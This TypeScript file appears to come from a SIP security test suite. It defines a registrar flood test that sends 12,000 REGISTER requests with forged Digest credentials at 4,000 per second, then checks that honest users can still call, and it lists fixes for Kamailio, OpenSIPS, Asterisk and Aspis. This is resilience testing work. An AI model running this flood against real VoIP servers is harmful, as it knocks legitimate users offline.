import { attack } from '../attack.ts'
import { floodText, idleUser } from '../flooding.ts'
import { floodAndCall, HONEST_MESSAGES } from '../under-load.ts'

const COUNT = 12_000

/** REGISTERs whose credentials look right and are wrong: each asks for a look-up and a hash. */
export const registerFlood = attack({
  id: 'register-flood',
  entry: 'F03',
  title: 'floods the registrar with wrong credentials',
  threats: ['flooding', 'authentication-load'],
  clause: 'Table 1, row 6; §3.3, load of authentication',
  references: ['RFC 3261 §26.3.2.4', 'RFC 7616 §5.8'],
  severity: 'high',
  isIntrusive: true,
  maxMessages: 2 * COUNT + HONEST_MESSAGES,
  needs: [],
  expected: 'Honest users register and call while the flood lasts.',
  mending: {
    aspis: 'On by default: a nonce that the server did not give is refused before anybody is looked up.',
    kamailio:
      'Let `auth` check the nonce before the database is asked; count sources with `pike`, and cache passwords with `htable`.',
    opensips: 'Count sources with `pike`; cache passwords with `cachedb_local` and `pv_www_authorize()`.',
    asterisk:
      'PJSIP has no bound for strangers: put an edge before it, or a packet filter with a rate for each source.',
  },
  run(trial) {
    const { target } = trial
    const { domain } = target
    const aor = idleUser(target)
    const user = aor.slice(4, aor.indexOf('@'))
    const proof = `username="${user}", realm="${domain}", nonce="{n}", uri="sip:${domain}", response="${'0'.repeat(32)}"`
    const lines = [`Authorization: Digest ${proof}, algorithm=MD5, qop=auth, nc=00000001, cnonce="{n}"`]
    const texts = [floodText(domain, { method: 'REGISTER', uri: `sip:${domain}`, from: aor, to: aor, lines })]
    return floodAndCall(trial, 'REGISTERs with wrong credentials', { texts, perSecond: 4_000, count: COUNT })
  },
})
